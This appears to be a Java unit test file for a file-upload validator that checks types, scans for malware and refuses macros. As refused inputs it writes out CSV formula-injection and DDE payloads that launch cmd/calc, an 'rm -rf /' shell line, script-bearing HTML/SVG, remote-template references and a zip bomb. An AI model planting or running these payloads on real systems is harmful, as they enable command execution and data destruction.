package app.chancery.platform.files;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import app.chancery.platform.refusal.Refused;
import app.chancery.platform.refusal.TooLarge;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.boot.env.YamlPropertySourceLoader;
import org.springframework.core.env.EnumerablePropertySource;
import org.springframework.core.io.ClassPathResource;
import org.springframework.util.unit.DataSize;

/** What is taken by the settings that are delivered. */
class IncomingFilesTest {

  private static final String TYPES = "chancery.files.types.";

  private static final Map<String, String> DELIVERED = delivered();

  private final IncomingFiles files = files("");

  static Stream<String> endings() {
    return DELIVERED.keySet().stream();
  }

  @ParameterizedTest
  @MethodSource("endings")
  void aFileOfEachKindIsTakenByItsContent(String ending) {
    byte[] content = SampleFiles.all().get(ending);
    assertThat(content).as("a sample of ." + ending).isNotNull();

    TakenFile taken = files.take("ბრიფი." + ending, content);

    assertThat(taken.type()).isEqualTo(DELIVERED.get(ending));
    assertThat(taken.name()).isEqualTo("ბრიფი." + ending);
    assertThat(taken.sha256()).isEqualTo(Sha256.of(content));
  }

  /** Of two kinds; text is text, whatever it is called. */
  @ParameterizedTest
  @MethodSource("endings")
  void aFileThatHoldsAnotherKindIsRefused(String ending) {
    SampleFiles.all()
        .forEach(
            (other, content) -> {
              String type = DELIVERED.get(ending);
              boolean same =
                  type.equals(DELIVERED.get(other))
                      || type.startsWith("text/") && DELIVERED.get(other).startsWith("text/");
              if (!same) {
                assertThatThrownBy(() -> files.take("brief." + ending, content))
                    .as(other + " called " + ending)
                    .isInstanceOf(Refused.class)
                    .hasMessageContaining("is not what its name says");
              }
            });
  }

  @ParameterizedTest
  @MethodSource("endings")
  void programsPagesAndArchivesAreRefusedWhateverTheyAreCalled(String ending) {
    for (byte[] content :
        new byte[][] {
          SampleFiles.text("MZ\u0090\u0000\u0003\u0000\u0000\u0000"),
          SampleFiles.text("<!DOCTYPE html><html><script>alert(1)</script></html>"),
          SampleFiles.text("<svg xmlns=\"http://www.w3.org/2000/svg\"><script/></svg>"),
          SampleFiles.text("#!/bin/sh\nrm -rf /\n"),
          SampleFiles.archive(),
          SampleFiles.withMacros(),
          new byte[] {0, 1, 2, 3}
        }) {
      assertThatThrownBy(() -> files.take("brief." + ending, content))
          .as(FileContent.typeOf(content) + " called " + ending)
          .isInstanceOf(Refused.class)
          .hasMessageContaining("is not what its name says");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|calc!A1",
        "name,=cmd|' /c calc'!A1",
        "\uFEFF=1+1",
        "a;b\nc;=SUM(A1:A9)",
        "a\tb\r\nc\t =WEBSERVICE(A1)",
        "a|=1+1",
        "sep=x\naxb\ncx=1+1",
        "a,\"\n =HYPERLINK(\"\"http://x\"\"&A1)\"",
        "+cmd|' /c calc'!A1",
        "-2+3+cmd|' /c calc'!A1",
        "@SUM(1+9)*cmd|' /c calc'!A1",
        "-1+IMPORTXML(A1)",
        "\uFF1Dcmd|calc!A1",
        "\uFF0BHYPERLINK (A1)",
        "a\r=1+1",
        "ID;PWXL;N;E"
      })
  void aTableWithACellThatASheetRunsIsRefused(String table) {
    for (Charset encoding : List.of(StandardCharsets.UTF_8, StandardCharsets.UTF_16)) {
      assertThatThrownBy(() -> files.take("list.csv", table.getBytes(encoding)))
          .as(encoding + " " + table)
          .isInstanceOf(Refused.class)
          .hasMessageContaining("list.csv has a cell that a sheet takes for a formula");
    }
    byte[] western = ("\u00E9\n" + table).getBytes(Charset.forName("windows-1252"));
    if (table.startsWith("=")) {
      assertThatThrownBy(() -> files.take("list.csv", western)).isInstanceOf(Refused.class);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "name,value\nRuritania,-5\nDorelia,+3.2\n",
        "phone\n+49 (30) 123-456\n+(32) 2 707\n",
        "- see the annex (page 3)\n-draft (second)\n- a | b\n",
        "@Clara Moreau,a=b,\"c, =d\"",
        "=====\nheading\n== ==",
        "'=1+1,-Infinity,-",
        "x,\"never closed\ny,1"
      })
  void aTableOfNumbersNamesAndListsIsTaken(String table) {
    assertThat(files.take("list.csv", SampleFiles.text(table)).content())
        .isEqualTo(SampleFiles.text(table));
  }

  @Test
  void aPictureMustBeReadableAsFarAsItsSize() {
    List<String> pictures =
        DELIVERED.keySet().stream()
            .filter(ending -> DELIVERED.get(ending).startsWith("image/"))
            .toList();
    assertThat(pictures).contains("png", "webp");
    for (String ending : pictures) {
      byte[] whole = SampleFiles.all().get(ending);
      for (int length : new int[] {8, 12, 20}) {
        assertThatThrownBy(() -> files.take("x." + ending, Arrays.copyOf(whole, length)))
            .as("%s of %s bytes", ending, length)
            .isInstanceOf(Refused.class)
            .hasMessageContaining("is not what its name says");
      }
      assertThat(files.take("x." + ending, whole).shown()).isTrue();
    }
  }

  @Test
  void aPdfThatDoesMoreThanToBeReadIsTakenAndNotShown() {
    assertThat(files.take("brief.pdf", SampleFiles.pdf()).shown()).isTrue();
    assertThat(files.take("brief.pdf", SampleFiles.pdfWithScript()).shown()).isFalse();
    assertThat(files.take("x.docx", SampleFiles.all().get("docx")).shown()).isFalse();
  }

  @Test
  void aDocumentOfOfficeIsKnownInWhateverOrderItsPartsStand() {
    assertThat(files.take("brief.docx", SampleFiles.officeInAnotherOrder()).type())
        .endsWith("wordprocessingml.document");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "word/vbaProject.bin",
        "WORD/VBAPROJECT.BIN",
        "vbaProject.bin",
        "word/vbaData.xml",
        "xl/macrosheets/sheet1.xml",
        "word/embeddings/Microsoft_Excel_Macro-Enabled_Worksheet.xlsm",
        "word/activeX/activeX1.xml",
        "word/embeddings/oleObject1.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/connections.xml",
        "xl/queryTables/queryTable1.xml",
        "customUI/customUI14.xml"
      })
  void aDocumentOfOfficeWithMacrosIsRefusedWhateverItSaysOfItself(String part) {
    refusedForMacros("brief.docx", SampleFiles.officeWith(part, "x"));
  }

  @ParameterizedTest
  @CsvSource({
    "2006/relationships/vbaProject,harmless.xml,Internal",
    "officeDocument/2006/relationships/attachedTemplate,https://example.org/t.dotm,External",
    "officeDocument/2006/relationships/attachedTemplate,file://server/share/t.dotm,External",
    "officeDocument/2006/relationships/attachedTemplate,file:///\\\\server\\t.dotm,External",
    "officeDocument/2006/relationships/attachedTemplate,\\\\server\\share\\t.dotm,External",
    "officeDocument/2006/relationships/oleObject,mhtml:http://example.org/x!x,External",
    "officeDocument/2006/relationships/frame,http://example.org/x,External",
    "officeDocument/2006/relationships/image,http://example.org/x.png,External",
    "officeDocument/2006/relationships/image,file://server/share/x.png,External",
    "officeDocument/2006/relationships/subDocument,file:///C:/x.docx,External",
    "officeDocument/2006/relationships/anythingNew,https://example.org/x,external",
    "officeDocument/2006/relationships/hyperlink,javascript:alert(1),External",
    "officeDocument/2006/relationships/oleObject,embeddings/oleObject1.bin,Internal",
    "officeDocument/2006/relationships/control,x/x.xml,Internal",
    "officeDocument/2006/relationships/aFChunk,afchunk.rtf,Internal",
    "officeDocument/2006/relationships/externalLink,x/x.xml,Internal",
    "officeDocument/2006/relationships/connections,x.xml,Internal",
    "purl.oclc.org/ooxml/officeDocument/relationships/oleObject,x.dat,Internal"
  })
  void aDocumentOfOfficeThatLeadsToMacrosIsRefused(String type, String target, String mode) {
    refusedForMacros("brief.docx", SampleFiles.officeThatRefersTo(type, target, mode));
  }

  @ParameterizedTest
  @CsvSource({
    "officeDocument/2006/relationships/hyperlink,https://example.org/,External",
    "officeDocument/2006/relationships/attachedTemplate,file:///C:\\Templates\\Letter.dotx,External",
    "officeDocument/2006/relationships/attachedTemplate,Letter.dotx,External",
    "officeDocument/2006/relationships/image,media/image1.png,Internal",
    "officeDocument/2006/relationships/package,embeddings/Worksheet1.xlsx,Internal"
  })
  void aDocumentThatRefersToWhatIsHarmlessIsTaken(String type, String target, String mode) {
    byte[] content = SampleFiles.officeThatRefersTo(type, target, mode);

    assertThat(files.take("brief.docx", content).content()).isEqualTo(content);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\"</w:instrText>",
        "<w:fldChar/><w:instrText> D</w:instrText><w:instrText>DE x y</w:instrText>",
        "<w:instrText>PAGE</w:instrText><w:fldChar/><w:instrText>includepicture \"http://x\"</w:instrText>",
        "<w:fldSimple w:instr=' INCLUDETEXT \"\\\\server\\x.docx\"'/>",
        "<w:fldSimple w:instr='LINK Excel.Sheet x'/>",
        "<w:altChunk w:id='a'/>",
        "<o:OLEObject ProgID='Package'/>",
        "<v:imagedata src='file://server/x.png'/>",
        "<v:imagedata src='\\\\server\\x.png'/>",
        "<a:hlinkClick action='ppaction://program'/>",
        "<f>_xlfn.WEBSERVICE(\"http://example.org\")</f>",
        "<f>cmd|' /c calc'!A0</f>",
        "<ddeLink ddeService='cmd' ddeTopic='x'/>"
      })
  void aDocumentOfOfficeThatRunsOrFetchesSomethingIsRefusedWhereverThatStands(String element) {
    for (String part : List.of("word/document2.xml", "word/anything.dat")) {
      refusedForMacros("brief.docx", SampleFiles.officeThatHas(part, element));
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<w:instrText> PAGE \\* MERGEFORMAT </w:instrText>",
        "<w:instrText>HYPERLINK \"https://example.org/link\"</w:instrText>",
        "<w:instrText>TOC \\o \"1-3\" \\h</w:instrText>",
        "<w:fldSimple w:instr='REF Link1'/>",
        "<w:t>DDEAUTO is a field; see INCLUDETEXT</w:t>",
        "<f>SUM(A1:A9)&amp;\"|\"</f>",
        "<a:hlinkClick action='ppaction://hlinkshowjump?jump=nextslide'/>"
      })
  void aDocumentOfOfficeThatOnlyShowsSomethingIsTaken(String element) {
    byte[] content = SampleFiles.officeThatHas("word/document2.xml", element);

    assertThat(files.take("brief.docx", content).content()).isEqualTo(content);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<o:event-listeners><script:event-listener xlink:href='vnd.sun.star.script:a.b'/></o:event-listeners>",
        "<presentation:event-listener presentation:action='execute'/>",
        "<text:a xlink:href='vnd.sun.star.script:Standard.Module1.Main?language=Basic'/>",
        "<draw:image xlink:href='http://example.org/x.png'/>",
        "<draw:image xlink:href='file://server/x.png'/>",
        "<draw:image xlink:href='../x.png'/>",
        "<text:section-source xlink:href='https://example.org/x.odt'/>",
        "<text:dde-connection-decl/>",
        "<draw:object-ole xlink:href='./Object 1'/>",
        "<draw:plugin/>",
        "<meta:template xlink:href='file:////server/x.ott'/>",
        "<table:table-cell table:formula='of:=WEBSERVICE(\"http://x\")'/>"
      })
  void anOpenDocumentThatRunsOrFetchesSomethingIsRefused(String element) {
    refusedForMacros("brief.odt", SampleFiles.openDocumentThatHas(element));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<text:a xlink:href='https://example.org/'/>",
        "<draw:image xlink:href='Pictures/1.png'/>",
        "<draw:object xlink:href='./Object 1'/>",
        "<meta:template xlink:href='../../Templates/Letter.ott'/>",
        "<presentation:event-listener presentation:action='next-page'/>",
        "<table:table-cell table:formula='of:=SUM([.A1:.A9])'/>"
      })
  void anOpenDocumentThatOnlyShowsSomethingIsTaken(String element) {
    byte[] content = SampleFiles.openDocumentThatHas(element);

    assertThat(files.take("brief.odt", content).content()).isEqualTo(content);
  }

  @ParameterizedTest
  @ValueSource(strings = {"<x", "<!DOCTYPE x [<!ENTITY y 'z'>]><x a='&y;'/>", "\u0000"})
  void whatADocumentRefersToMustBeReadable(String relationships) {
    refusedForMacros(
        "brief.docx", SampleFiles.officeWith("word/_rels/document.xml.rels", relationships));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"Basic/Standard/Module1.xml", "Scripts/python/run.py", "Object 1/Basic/A/b.xml"})
  void anOpenDocumentWithMacrosIsRefused(String part) {
    refusedForMacros("brief.odt", SampleFiles.openDocumentWith(part));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"Basic/script-lc.xml", "Basic/Standard/script-lb.xml", "Configurations2/x.xml"})
  void anOpenDocumentWithEmptyLibrariesIsTaken(String part) {
    assertThat(files.take("brief.odt", SampleFiles.openDocumentWith(part)).name())
        .isEqualTo("brief.odt");
  }

  @Test
  void aDocumentOfMorePartsThanAnyHasIsRefused() {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    parts.put(
        "[Content_Types].xml",
        SampleFiles.text(
            "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument"
                + ".wordprocessingml.document.main+xml\"/></Types>"));
    for (int part = 0; part <= 20_000; part++) {
      parts.put("word/" + part, new byte[0]);
    }
    byte[] content = SampleFiles.zip(parts);

    assertThatThrownBy(() -> files.take("brief.docx", content))
        .isInstanceOf(Refused.class)
        .hasMessageContaining("unpacks to far more than a document has");
  }

  /** It says it is small, and unpacks to so much that nobody waits for it. */
  @Test
  void referencesThatUnpackToMoreThanAnyAreNotReadToTheirEnd() {
    refusedForMacros(
        "brief.docx",
        SampleFiles.officeWith("word/_rels/document.xml.rels", "<x>" + " ".repeat(64 << 20)));
  }

  @Test
  void aDocumentThatIsCutOffIsRefused() {
    byte[] whole = SampleFiles.officeThatRefersTo("hyperlink", "https://example.org", "External");
    for (int length = 40; length < whole.length; length += 40) {
      byte[] cut = Arrays.copyOf(whole, length);
      assertThatThrownBy(() -> files.take("brief.docx", cut)).isInstanceOf(Refused.class);
    }
  }

  private void refusedForMacros(String name, byte[] content) {
    assertThatThrownBy(() -> files.take(name, content))
        .isInstanceOf(Refused.class)
        .hasMessageContaining(name + " holds macros")
        .hasMessageContaining("Save a copy without them");
  }

  @ParameterizedTest
  @CsvSource({
    "windows-1252,Müller;12;Zürich",
    "windows-1252,Größe – 5 €;“Übermut”",
    "ISO-8859-1,Müller;12;Zürich",
    "ISO-8859-2,Łódź;Kraków;Wrocław",
    "windows-1250,Łódź;Kraków;Wrocław",
    "windows-1251,Київ;Львів;Харків",
    "KOI8-R,Москва;Тверь;Казань",
    "ISO-8859-7,Αθήνα;Πάτρα;Βόλος",
    "windows-1254,İstanbul;Şanlıurfa;Iğdır",
    "Shift_JIS,東京;大阪;名古屋市は大きい",
    "GB18030,北京;上海;广州是大城市",
    "UTF-16,Müller;12;ზუგდიდი",
    "UTF-8,Müller;12;ზუგდიდი"
  })
  void textIsTakenInWhateverEncodingItsProgramWrites(String encoding, String text) {
    for (String name : List.of("list.csv", "list.txt")) {
      for (String lines : List.of(text, (text + "\r\n").repeat(500))) {
        byte[] content = lines.getBytes(Charset.forName(encoding));
        assertThat(files.take(name, content).content()).as(name).isEqualTo(content);
      }
    }
  }

  @ParameterizedTest
  @ValueSource(ints = {0, 1, 7, 8, 11, 27, 31, 127})
  void textWithAControlCharacterIsRefusedWithWhatToDo(int sign) {
    for (String around : List.of("Müller;%s;Zürich", "plain;%s;letters only ".repeat(20))) {
      byte[] content =
          around.replace("%s", Character.toString(sign)).getBytes(Charset.forName("windows-1252"));
      assertThatThrownBy(() -> files.take("list.csv", content))
          .isInstanceOf(Refused.class)
          .hasMessageContaining("list.csv is not what its name says")
          .hasMessageContaining("Save it once more as text");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"brief.exe", "brief", "brief.pdf.html", "brief.docm", "pdf"})
  void aKindThatIsNotInTheSettingsIsRefusedWithThoseThatAre(String name) {
    assertThatThrownBy(() -> files.take(name, SampleFiles.pdf()))
        .isInstanceOf(Refused.class)
        .hasMessageContaining(name + " is of no kind that is taken")
        .hasMessageContaining(".docx, ");
  }

  @Test
  void whatIsTooLargeEmptyOrHasNoNameIsRefused() {
    byte[] large = new byte[(10 << 20) + 1];
    assertThatThrownBy(() -> files.take("brief.pdf", large))
        .isInstanceOf(TooLarge.class)
        .hasMessage("brief.pdf has 10.1 MB; at most 10 MB are taken. Nothing was kept.");
    assertThatThrownBy(() -> files.take("brief.pdf", new byte[0])).hasMessageContaining("is empty");
    assertThatThrownBy(() -> files.take("/", SampleFiles.pdf()))
        .hasMessageContaining("no name that can be read");
    assertThatThrownBy(() -> files.take("x".repeat(252) + ".pdf", SampleFiles.pdf()))
        .hasMessageContaining("Its name has 256 characters; at most 255 are taken");
  }

  @Test
  void aNameOf200LettersIsTaken() {
    String name = "წ".repeat(196) + ".pdf";
    assertThat(files.take(name, SampleFiles.pdf()).name()).isEqualTo(name);
  }

  @Test
  void whatTheDaemonFindsCleanIsTaken() throws IOException {
    try (FakeClamAv daemon = new FakeClamAv("stream: OK")) {
      byte[] large = SampleFiles.text("%PDF-1.7\n" + "x".repeat(200_000));

      assertThat(files(daemon.address()).take("brief.pdf", large).content()).isEqualTo(large);
      assertThat(daemon.received()).isEqualTo(large);
    }
  }

  @Test
  void whatTheDaemonFindsSomethingInIsRefused() throws IOException {
    try (FakeClamAv daemon = new FakeClamAv("stream: Win.Test.EICAR_HDB-1 FOUND")) {
      assertThatThrownBy(() -> files(daemon.address()).take("brief.pdf", SampleFiles.pdf()))
          .isInstanceOf(Refused.class)
          .isNotInstanceOf(NotChecked.class)
          .hasMessage(
              "file: brief.pdf was refused: the scanner for malware found something in it.");
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"INSTREAM size limit exceeded. ERROR", "", "stream: OK? FOUND it", "OK"})
  void whatTheDaemonDoesNotSayIsNotGuessed(String answer) throws IOException {
    try (FakeClamAv daemon = new FakeClamAv(answer)) {
      assertThatThrownBy(() -> files(daemon.address()).take("brief.pdf", SampleFiles.pdf()))
          .isInstanceOf(NotChecked.class);
    }
  }

  /** Nobody listens there. */
  @Test
  void withoutTheDaemonThatIsConfiguredNothingIsTaken() {
    assertThatThrownBy(() -> files("127.0.0.1:1").take("brief.pdf", SampleFiles.pdf()))
        .isInstanceOf(NotChecked.class)
        .hasMessageContaining("cannot be checked for malware now")
        .hasMessageContaining("try again");
  }

  @ParameterizedTest
  @ValueSource(strings = {"clamav", "clamav:", ":3310", "clamav:port"})
  void anAddressOfADaemonThatIsNoneIsToldAtTheStart(String address) {
    assertThatThrownBy(() -> policy(address)).hasMessageContaining("chancery.files.clamav");
  }

  private static IncomingFiles files(String clamav) {
    FilePolicy policy = policy(clamav);
    return new IncomingFiles(policy, new MalwareScan(policy));
  }

  private static FilePolicy policy(String clamav) {
    return new FilePolicy(DataSize.ofMegabytes(10), 255, DELIVERED, clamav, Duration.ofSeconds(30));
  }

  private static Map<String, String> delivered() {
    try {
      return new YamlPropertySourceLoader()
          .load("application", new ClassPathResource("application.yml")).stream()
              .map(EnumerablePropertySource.class::cast)
              .flatMap(
                  source ->
                      Stream.of(source.getPropertyNames())
                          .filter(name -> name.startsWith(TYPES))
                          .map(name -> Map.entry(name, String.valueOf(source.getProperty(name)))))
              .collect(
                  Collectors.toMap(
                      each -> each.getKey().substring(TYPES.length()), Map.Entry::getValue));
    } catch (IOException e) {
      throw new IllegalStateException(e);
    }
  }
}
